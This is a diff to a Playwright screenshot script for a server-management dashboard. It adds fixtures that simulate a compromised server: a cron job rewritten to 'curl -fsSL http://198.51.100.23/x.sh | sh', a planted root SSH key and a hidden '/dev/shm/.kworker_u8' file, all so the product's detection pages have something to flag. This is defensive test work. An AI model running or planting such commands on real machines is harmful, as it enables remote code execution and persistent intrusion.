@@ -91,6 +91,42 @@ async function loseSession(page: Page) {
   await page.getByRole('dialog', { name: 'Sign in again' }).waitFor()
 }
 
+/** Shows the list of what an update leaves, on a server that was installed before the release that closed it. */
+async function showOpenBlock(page: Page, { backend: { tables } }: Product) {
+  for (const user of tables.user) user.created_at = '2026-02-03T09:00:00Z'
+  await page.reload()
+  const steps = page.getByRole('region', { name: 'What an update does not replace' })
+  await steps.getByRole('checkbox').first().check()
+  await steps.evaluate((element) => element.scrollIntoView())
+}
+
+/** Keeps the state of the server and lets a task and a tunnel change. */
+async function drift(page: Page, { backend: { tables } }: Product) {
+  await button(page, 'Keep in this browser').click()
+  await button(page, 'Compare now').waitFor()
+  tables.cron[0]!.command = 'curl -fsSL http://198.51.100.23/x.sh | sh'
+  tables.nat.length = 1
+  await page.reload()
+  await page.getByRole('table', { name: 'Known state' }).waitFor()
+}
+
+/** Runs the script that looks at machines. */
+async function lookAtMachines(page: Page, { backend }: Product) {
+  const usual = [
+    'keys\t/root/.ssh/authorized_keys: 1\t2026-01-04',
+    'key\t/root/.ssh/authorized_keys 5f3c0d1b9a72 ops@example\t',
+  ]
+  const planted = ['key\t/root/.ssh/authorized_keys 91c2ab07e4d5 sysop@nezhapwn\t', 'hidden\t/dev/shm/.kworker_u8\t']
+  for (const id of [1, 2, 3]) {
+    backend.agent(id).behave({ prints: [...usual, ...(id === 2 ? planted : []), ''].join('\n') })
+  }
+  await page.getByRole('button', { name: /^Run on/ }).click()
+  await page.getByRole('alertdialog').getByRole('button', { name: /^Run/ }).click()
+  const results = page.getByRole('region', { name: 'What differs from most servers' })
+  await results.getByText('sysop@nezhapwn').waitFor()
+  await results.evaluate((element) => element.scrollIntoView())
+}
+
 /** Waits for the element that says that a screen of the list is loaded. */
 export async function waitForScreen(page: Page, address: string) {
   const known = screens.find(([one]) => one === address)
@@ -249,6 +285,9 @@ export const pictures: Picture[] = [
   { name: 'configuration-compare', address: 'configuration', prepare: compareFile },
   { name: 'configuration-check', address: 'configuration-check' },
   { name: 'security-check', address: 'settings/security' },
+  { name: 'security-after-update', address: 'settings/security', prepare: showOpenBlock },
+  { name: 'security-known-state', address: 'settings/security', prepare: drift },
+  { name: 'security-machines', address: 'command?servers=1-3&look', prepare: lookAtMachines },
   { name: 'profile', address: 'profile' },
   {
     name: 'palette',
